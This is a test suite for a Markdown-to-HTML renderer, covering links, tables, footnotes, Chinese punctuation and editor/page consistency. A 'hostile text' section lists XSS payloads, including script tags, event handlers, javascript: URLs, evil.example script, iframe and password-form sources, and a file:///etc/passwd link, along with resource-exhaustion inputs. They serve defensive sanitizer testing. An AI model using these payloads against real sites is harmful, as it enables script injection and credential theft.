import rehypeStringify from "rehype-stringify";
import remarkRehype from "remark-rehype";
import { unified } from "unified";
import { describe, expect, it } from "vitest";
import { threadTime } from "~tests/support/thread-time";
import { renderMarkdown, showsNothing } from "./markdown.server";
import { findExcess } from "./markdown-bounds";
import { parseMarkdown, parseMarkdownInSteps } from "./markdown-parser";
import { spansBetween } from "./markdown-spans";

const options = {
  linkTo: (path: string) => (path === "/contact" ? "/en/contact" : path),
  words: {
    footnotes: "Notes",
    backToText: "Back",
    external: "(elsewhere)",
    asWritten: { "too-long": "Long from {line}:", "too-complex": "Line {line}:" },
  },
};
const htmlOf = async (source: string) => (await renderMarkdown(source, options)).html;

describe("a text", () => {
  it("has headings with ids, and a list of its sections", async () => {
    const { html, headings } = await renderMarkdown(
      "## 您的权利\n\n### Part\n\n## Cookies\n",
      options,
    );
    expect(headings.map(({ title }) => title)).toEqual(["您的权利", "Cookies"]);
    for (const { id } of headings) expect(html).toContain(`<h2 id="${id}">`);
    expect(html).toContain('<h3 id="s-part">');
  });

  it("omits the first heading, and has ids only for headings with letters", async () => {
    const { html, headings } = await renderMarkdown("# Title\n\n##\n\n## !!!", options);
    expect(html).toBe('<h2 id="s-title">Title</h2>\n<h2></h2>\n<h2>!!!</h2>');
    expect(headings).toEqual([{ id: "s-title", title: "Title" }]);
  });

  it("has links in its language, and marks external ones", async () => {
    expect(await htmlOf("[us](/contact)")).toBe('<p><a href="/en/contact">us</a></p>');
    const away =
      'target="_blank" rel="noopener external">them<span class="sr-only"> (elsewhere)</span></a>';
    for (const address of [
      "https://them.example",
      "http://them.example",
      "//them.example",
      // Phones begin a line with a capital.
      "Https://them.example",
      "HTTP://them.example",
    ]) {
      const href = address.replace(/^https?:/i, (scheme) => scheme.toLowerCase());
      expect(await htmlOf(`[them](${address})`)).toBe(`<p><a href="${href}" ${away}</p>`);
      expect(await htmlOf(`[them][a]\n\n[a]: ${address}`)).toBe(`<p><a href="${href}" ${away}</p>`);
    }
  });

  it("has tables in regions that can be scrolled and focused", async () => {
    const table = "| a | b |\n|---|---|\n| 1 | [x](/contact) |\n";
    for (const source of [table, table.replace(/^/gm, "> ")]) {
      expect(await htmlOf(source)).toMatch(/<div class="table-scroll" tabindex="0"[^>]*><table>/);
      expect(await htmlOf(source)).toContain('href="/en/contact"');
    }
  });

  it("has code unchanged", async () => {
    expect(await htmlOf('```js\nif (a < b) run("<b>");\n```')).toBe(
      '<pre tabindex="0"><code class="language-js">if (a &#x3C; b) run("&#x3C;b>");\n</code></pre>',
    );
    expect(await htmlOf("a `<script>` b")).toBe("<p>a <code>&#x3C;script></code> b</p>");
  });

  it("has images with a title as figures", async () => {
    expect(await htmlOf('![Rings](/pictures/rings.png "Two <rings>")')).toBe(
      '<figure><img src="/pictures/rings.png" alt="Rings" loading="lazy"><figcaption>Two &#x3C;rings></figcaption></figure>',
    );
  });

  it("has footnotes with links back", async () => {
    const html = await htmlOf("text[^1]\n\n[^1]: note");
    expect(html).toContain('<section data-footnotes class="footnotes">');
    for (const id of ["user-content-fn-1", "user-content-fnref-1"]) {
      expect(html).toContain(`id="${id}"`);
      expect(html).toContain(`href="#${id}"`);
    }
    expect(html).toMatch(/<h2 id="footnote-label">Notes<\/h2>/);
  });

  it("has absolute addresses and no hidden text for feeds", async () => {
    const source = "[a](/contact) [b](https://b.example) ![c](/c.png) d[^1]\n\n[^1]: e";
    const { html } = await renderMarkdown(source, {
      ...options,
      pageUrl: "https://site.example/new/1",
    });
    expect([...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, address]) => address)).toEqual([
      "https://site.example/en/contact",
      "https://b.example/",
      "https://site.example/c.png",
      "https://site.example/new/1#user-content-fn-1",
      "https://site.example/new/1#user-content-fnref-1",
    ]);
    expect(html).not.toContain("sr-only");
  });
});

/** Its text, links as `[text](address)`, bold, emphasis and strikes as their tags. */
const shown = async (source: string) =>
  (await htmlOf(source))
    .replace(/<span class="sr-only">[^<]*<\/span>/g, "")
    .replace(/<a href="([^"]*)"[^>]*>(.*?)<\/a>/g, "[$2]($1)")
    .replaceAll("&#x3C;", "<")
    .replace(/^<p>|<\/p>$/g, "");
const link = (address: string, scheme = "") => `[${address}](${scheme}${encodeURI(address)})`;

const styles: Record<string, string> = {
  strong: "strong",
  em: "emphasis",
  del: "strike",
  code: "code",
  a: "link",
};
/** A character with its styles; blanks and what stands in for other characters are left out. */
const styled = (character: string, style: readonly string[]) =>
  /[\s|\0-]/.test(character) ? [] : [[character, ...new Set(style)].sort().join(" ")];

/** Renders a text. @returns each character that the page shows, with its styles */
async function onPage(source: string): Promise<string[]> {
  const html = (await htmlOf(source))
    .replace(/<(span class="sr-only"|sup|section)(?=[ >]).*?<\/(span|sup|section)>/gs, "")
    .replace(/&#x3C;/g, "\u{E000}");
  const open: string[] = [];
  return [...html.matchAll(/<(\/?)([^\s>]+)[^>]*>|./gsu)].flatMap(([text, slash, tag]) => {
    const style = styles[tag ?? ""];
    if (tag === undefined) return styled(text === "\u{E000}" ? "<" : text, open);
    if (style !== undefined) slash === "/" ? open.pop() : open.push(style);
    return [];
  });
}

/** @returns each character that the editor shows, with its styles */
function inEditor(source: string): string[] {
  const spans = spansBetween(source, 0, source.length);
  const unseen = [...source.matchAll(/<br\s*\/?>|\[\^\w+\]:?/gi)].map(({ 0: text, index }) => ({
    kind: "mark",
    from: index,
    to: index + text.length,
  }));
  return [...source.matchAll(/&copy;|./gsu)].flatMap(({ 0: text, index }) => {
    const here = [...spans, ...unseen].filter(({ from, to }) => from <= index && index < to);
    if (here.some(({ kind }) => ["mark", "aside", "image"].includes(kind))) return [];
    const style = here.map(({ kind }) => kind);
    return styled(text === "&copy;" ? "©" : text, style);
  });
}

describe("a text as people write and paste it", () => {
  it.each([
    ["**注意：**请先备份", "<strong>注意：</strong>请先备份"],
    [
      "请**（重要）**备份，再**“重启”**一次",
      "请<strong>（重要）</strong>备份，再<strong>“重启”</strong>一次",
    ],
    ["支持**《协议》**的**「端口」**", "支持<strong>《协议》</strong>的<strong>「端口」</strong>"],
    ["请~~99元，~~现价", "请<del>99元，</del>现价"],
    ["**[链接](/a)**见*（注）*后", "<strong>[链接](/a)</strong>见<em>（注）</em>后"],
    [
      "先**`npm`。**再**¥10,000**买",
      "先<strong><code>npm</code>。</strong>再<strong>¥10,000</strong>买",
    ],
    [
      "**⚠️**请**✅完成。**后**真，**她",
      "<strong>⚠️</strong>请<strong>✅完成。</strong>后<strong>真，</strong>她",
    ],
    [
      "***重要：***必看**“A”**、__注意：__请",
      "<em><strong>重要：</strong></em>必看<strong>“A”</strong>、__注意：__请",
    ],
    ["snake_case_name 和 2 * 3 * 4", "snake_case_name 和 2 * 3 * 4"],
    ["10~20 元，月 5~8 个", "10~20 元，月 5~8 个"],
    ["~1~，H~2~O", "~1~，H~2~O"],
    ["`<profile>` 与 <profile> 和 </b>", "<code><profile></code> 与 <profile> 和 </b>"],
    ["一<br>二<BR />三<!-- 无人见 -->", "一<br>\n二<br>\n三"],
    ["<div>\n**粗：**体\n</div>", "<div>\n<strong>粗：</strong>体\n</div>"],
    ["一\u2028二", "一\n二"],
    ["-\u00a0一\n\u00a0\u00a0-\u00a0二", "<ul>\n<li>一\n<ul>\n<li>二</li>\n</ul>\n</li>\n</ul>"],
    ["\u00a0\u00a0\u00a0\u00a0首行", "\u00a0\u00a0\u00a0\u00a0首行"],
    ["<!-- 草稿\n\n备注 -->", ""],
  ])("%j shows what was meant, on the page and in the editor", async (source, html) => {
    expect(await shown(source)).toBe(html);
    expect(inEditor(source)).toEqual(await onPage(source));
  });

  it.each([
    "## 一 `二` ##\n三\n\n四\n==\n\n> 五\n> **六：**七\n>> 八\n九",
    '- **一：**二\n- [x](/a "题")\n\n  10. ~~三，~~四\n      > *五*\n\n1) 六\n2) 七',
    "[一][x] [二] [x] [无][y] ![图][x] [四](<a b> '五')\n\n[x]: /a \"题\"\n[二]: <b c>\n",
    "```js\n**一** <b>\n```\n\n    **二**\n\n~~~\n三",
    "<div>\n**一：**<!-- 二\n--><!-- 三 -->四~~五，~~<!-- 六 -->**七**\n</div>\n\n**八：**九",
    "> <div>\n> **一：**二\n> </div>\n\n- <p>**三：**四</p>",
    "| **一：**二 | `a` |\n|:--|--:|\n| ~~三，~~四 | https://a.cn/x，五 |",
    "\\*一\\* 二\\\n`` ` `` &copy; <https://a.cn> <a@b.cn>",
    "一[^1]**二：**三\n\n[^1]: -\n\n五[^1]",
    "*一**二***三** ***四：***五 __六：__七 _八_",
    `\t- 一\n\n${"**注：**请。\n".repeat(50)}\n  - 二\n\t- **三：**四\n`,
    `${"**一：**二\n\n".repeat(3)}${"[".repeat(10_000)}`.slice(0, 60),
  ])("%j has the same styles on the page and in the editor", async (source) => {
    expect(inEditor(source)).toEqual(await onPage(source));
  });

  it("that costs too much is without styles in the editor, as it is on the page", () => {
    expect(spansBetween(`**a**\n\n${"[".repeat(10_000)}`, 0, 5)).toEqual([]);
  });

  it("breaks lines in tables", async () => {
    expect(await htmlOf("| a |\n|---|\n| 一<br>二 <x> |")).toContain(
      "<td>一<br>\n二 &#x3C;x></td>",
    );
  });

  const whole = "https://www.example.com/download";
  it.each([
    ...Array.from("，。；：！？、）】》」』”’…—～｜｝〉", (mark) => [
      `请访问${whole}${mark}然后`,
      `请访问${link(whole)}${mark}然后`,
    ]),
    [`（${whole}）`, `（${link(whole)}）`],
    [
      `**${whole}**。然后*${whole}*，`,
      `<strong>${link(whole)}</strong>。然后<em>${link(whole)}</em>，`,
    ],
    [`~~${whole}~~，`, `<del>${link(whole)}</del>，`],
    [
      "https://example.com然后https://a.cn:8080然后",
      `${link("https://example.com")}然后${link("https://a.cn:8080")}然后`,
    ],
    [
      "https://zh.example.org/wiki/列夫·托尔斯泰_(作家)。",
      `${link("https://zh.example.org/wiki/列夫·托尔斯泰_(作家)")}。`,
    ],
    ["https://万象.中国/下载?q=浏览器#一，二", `${link("https://万象.中国/下载?q=浏览器#一")}，二`],
    ["访问www.example.com/a，再", `访问${link("www.example.com/a", "http://")}，再`],
    [
      "https://a.cn/x,然后 (https://a.cn/y). https://a.cn/?a=1&copy; http://localhost:3000!",
      `${link("https://a.cn/x")},然后 (${link("https://a.cn/y")}). ${link("https://a.cn/?a=1")}© ${link("http://localhost:3000")}!`,
    ],
    [
      "邮件a@b.cn，或c.d@e.com即可",
      `邮件${link("a@b.cn", "mailto:")}，或${link("c.d@e.com", "mailto:")}即可`,
    ],
    ["[注：https://a.cn/x，说明", `[注：${link("https://a.cn/x")}，说明`],
    ["[见https://a.cn，说明](/b)", "[见https://a.cn，说明](/b)"],
    [
      "<https://a.cn/x，y> https://，空 xhttps://a.cn",
      `${link("https://a.cn/x，y")} https://，空 xhttps://a.cn`,
    ],
    [
      "https://a.cn/_next_/x*y*z https://a.cn/\u200b后",
      `${link("https://a.cn/_next_/x*y*z")} ${link("https://a.cn/")}\u200b后`,
    ],
    [
      "| https://a.cn/x，后 |\n|---|",
      `<div class="table-scroll" tabindex="0" role="group"><table>\n<thead>\n<tr>\n<th>${link("https://a.cn/x")}，后</th>\n</tr>\n</thead>\n</table></div>`,
    ],
  ])("%j has the address that was meant, on the page and in the editor", async (source, html) => {
    expect(await shown(source)).toBe(html);
    expect(inEditor(source)).toEqual(await onPage(source));
  });
});

it.each(["\u200b", "\ufe0f", "\u034f", "\u3164", "\u2800", "&nbsp;", "<!-- a -->", "[a]: /b"])(
  "a text of %j alone shows nothing",
  async (source) => {
    expect(showsNothing(await renderMarkdown(source, options))).toBe(true);
    expect(showsNothing(await renderMarkdown(`${source}\n\n⚠\ufe0f`, options))).toBe(false);
  },
);

describe("a hostile text", () => {
  const tags =
    /^(a|blockquote|br|code|del|div|em|figcaption|figure|h[2-6]|hr|img|input|li|ol|p|pre|section|span|strong|sup|table|tbody|td|th|thead|tr|ul)$/;
  const attributes =
    /^(align|alt|aria-describedby|aria-label|checked|class|data-footnote-backref|data-footnote-ref|data-footnotes|disabled|href|id|loading|rel|role|src|start|tabindex|target|title|type)$/;

  it.each([
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<b onclick=alert(1) style=position:fixed>b</b>",
    "<details open ontoggle=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example><style>*{display:none}</style>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg onload=alert(1)><use href=data:image/svg+xml,x#y></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "</p></div></main><script>alert(1)</script>",
    '<a id="content" name="location" href="javascript:alert(1)">a</a>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\u0001javascript:alert(1))",
    "[a](java%0ascript:alert(1))",
    "[a](vbscript:alert(1)) [b](file:///etc/passwd) [c](blob:x) [d](data:text/html,x)",
    "[a]: javascript:alert(1)\n\n[a] and ![b][a]",
    "<javascript:alert(1)>",
    '![a](javascript:alert(1) "t") ![b](data:image/svg+xml,x)',
    "![a](https://tracker.example/pixel.gif) ![b](//tracker.example/p.gif)",
    '![a](https://tracker.example/pixel.gif "title")',
    '[a](https://a.example/"onmouseover="alert(1) "ti\\"tle")',
    '```js" onclick="alert(1)\nx\n```',
    '[^a"><img src=x onerror=alert(1)>]\n\n[^a"><img src=x onerror=alert(1)>]: x',
    '## <img src=x onerror=alert(1)>\n\n## a" onclick=alert(1) b="',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a\0b \u202e c \ud800",
  ])("%j contains nothing that runs", async (source) => {
    const html = await htmlOf(source);
    for (const [, tag = "", inside = ""] of html.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
      expect(tag).toMatch(tags);
      const names = [...inside.matchAll(/([^\s="]+)(?:="[^"]*")?/g)].map(([, name]) => name);
      for (const name of names) expect(name).toMatch(attributes);
    }
    const tagsOnly = html.replace(/>[^<]*/g, ">");
    for (const [, address = ""] of tagsOnly.matchAll(/(?:href|src)="([^"]*)"/g)) {
      expect(address).not.toBe("");
      expect(new URL(address, "https://site.example").protocol).toMatch(/^(https?|mailto):$/);
    }
    expect(html).not.toMatch(/<img[^>]*src="(?!\/[^/])/);
  });

  it("cannot use an element id of the page", async () => {
    const names = ["content", "contents", "related", "location", "__proto__", "footnote-label"];
    const source = names.map((name) => `## ${name}\n\n[^${name}]\n\n[^${name}]: n`).join("\n\n");
    const ids = [...(await htmlOf(source)).matchAll(/ id="([^"]*)"/g)].map(([, id]) => id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const id of ids) expect(id).toMatch(/^(s-|user-content-fn|footnote-label$)/);
  });

  const filled = (part: string, between = "") => {
    const parts = Math.floor(59_000 / (part.length + between.length));
    return Array.from({ length: parts }, () => part).join(between);
  };
  it.each([
    ["quotations", `${">".repeat(20_000)} x`],
    ["quotations on lines", "> > > > a\n".repeat(20_000)],
    ["lists", Array.from({ length: 500 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n")],
    ["lists in a line", "- ".repeat(20_000)],
    ["brackets", "[".repeat(50_000)],
    ["ends of brackets", "]".repeat(59_000)],
    ["links in links", "[a](".repeat(20_000)],
    ["emphasis", "*a_".repeat(19_000)],
    ["emphasis by blocks", filled("*a_".repeat(190), "\n\n")],
    ["links by blocks", filled("[a](".repeat(190), "\n\n")],
    ["footnotes by blocks", filled("[^1] ".repeat(190), "\n\n")],
    ["words of code", Array.from({ length: 400 }, (_, ticks) => "`".repeat(ticks)).join("x")],
    ["a long list", filled("- a", "\n")],
    ["a long loose list", filled("- a", "\n\n")],
    ["headings", filled("## a", "\n\n")],
    ["underlined headings", filled("a\n=\n")],
    ["open comments", filled("<!--")],
    ["entities", filled("&amp;")],
    [
      "a huge table",
      `${"| a ".repeat(300)}|\n${"|---".repeat(300)}|\n${`${"| 1 ".repeat(300)}|\n`.repeat(45)}`,
    ],
    ["a wide table of nothing", "|".repeat(59_000)],
    ["one word", "字".repeat(59_000)],
    ["far too much", "text ".repeat(1_000_000)],
  ])("of %s is rendered in time, or shown as plain text", async (_, source) => {
    let html = "";
    const time = await threadTime(async () => {
      html = (await renderMarkdown(source, options)).html;
    });
    expect(time).toBeLessThan(10_000);
    expect(html).toMatch(/^(<|$)/);
  });

  it("that is too large is shown as escaped plain text, and says so", async () => {
    expect(await htmlOf("a\n\n".repeat(5_000))).toMatch(/^<p>Long from 8001:<\/p><pre /);
    expect(await htmlOf(`<script>${"[".repeat(10_000)}`)).toBe(
      `<p>Line 1:</p><pre tabindex="0">&#x3C;script>${"[".repeat(10_000)}</pre>`,
    );
  });
});

describe("the bounds of a text", () => {
  const row = "| **A** | [b](/c) | `d` | 10~20 元 | *e* | https://a.cn |\n";
  const tableOf = (rows: number) => `${row}${"|---".repeat(6)}|\n${row.repeat(rows)}`;
  const prose = "这是一段普通的文字，说明**重点**和[链接](/a)以及`代码`。\n\n";

  it.each([
    ["a table of 100 rows", tableOf(100), "<td><strong>A</strong></td>", 600],
    ["68,000 characters", prose.repeat(2_000), "<strong>重点</strong>", 2_000],
    ["code far to the right", `\`\`\`\n${" ".repeat(200)}x\n\`\`\``, "<code>", 1],
  ])("allow %s", async (_, source, part, count) => {
    const { html } = await renderMarkdown(source, options);
    expect(findExcess(source)).toBeNull();
    expect(html.split(part).length - 1).toBeGreaterThanOrEqual(count > 1_000 ? count : 1);
  });

  it.each([
    [
      "columns",
      `a\n\n${"| a ".repeat(300)}|\n${"|---".repeat(300)}|\n${`${"| 1 ".repeat(300)}|\n`.repeat(45)}`,
      3,
    ],
    [
      "columns that short rows are filled up to",
      `a\n\n${"|a".repeat(2_000)}|\n${"|-".repeat(2_000)}|\n${"|b|\n".repeat(500)}`,
      3,
    ],
    ["nested quotations", `a\nb\n${">".repeat(60)} c`, 3],
    ["brackets", `a\n\n${"[".repeat(10_000)}`, 3],
    ["lines in one paragraph", `a\n\n${"b\n".repeat(5_000)}`, 3],
    ["characters", `${prose.trim().repeat(10)}\n\n`.repeat(900), 1_755],
    ["lines", prose.repeat(4_500), 8_001],
    ["definitions of addresses", `a\n${"\n[a]: /b\n".repeat(1_600)}`, 2_003],
    ["definitions in lists", "- [a]: /b\n".repeat(1_600), 1_001],
    ["definitions of notes", "[^a]: b\n".repeat(1_600), 1_001],
    ["calls of notes", `a\n\n${"b[^1]".repeat(1_500)}\n\n[^1]: c`, 3],
    ["calls of notes in all", `${`${"a[^1]".repeat(20)}\n\n`.repeat(500)}[^1]: b`, 503],
    ["blocks of HTML in one list", `a\n\n- b\n${"\n  <div>\n".repeat(1_500)}`, 3],
  ])("name the line of too many %s", (_, source, line) => {
    expect(findExcess(source)).toMatchObject({ line });
  });

  it.each([
    ["blocks of HTML", "<div>\n\n"],
    ["breaks", "<br>\n\n"],
    ["calls of notes", "字[^1]\n\n"],
  ])("parse %s in many steps, because each costs much", (_, block) => {
    const source = `${block.repeat(3_000)}[^1]: a`;
    expect(findExcess(source)).toBeNull();
    expect([...parseMarkdownInSteps(source)].length).toBeGreaterThan(10);
  });

  it("leave turns to others, and change nothing of the text", async () => {
    const notes = "见[名][x]与注[^n]。\n\n> [x]: /a\n\n<div>\n*斜*\n</div>\n\n[^n]: **注：**后\n\n";
    const source = `${notes}${prose.repeat(600)}再[名][x]与[^n]。\n    code\n\n    code\n# 尾\n${notes}`;
    let turns = 0;
    const watch = setInterval(() => {
      turns += 1;
    }, 0);
    const { html } = await renderMarkdown(source, options);
    clearInterval(watch);
    expect(turns).toBeGreaterThan(3);
    const whole = unified().use(remarkRehype).use(rehypeStringify);
    const links = (text: string) => text.match(/<(a href|strong|em|code)\b/g)?.length;
    const atOnce = whole.stringify(whole.runSync(parseMarkdown(source)));
    expect(links(html)).toBe(links(atOnce));
  });
});
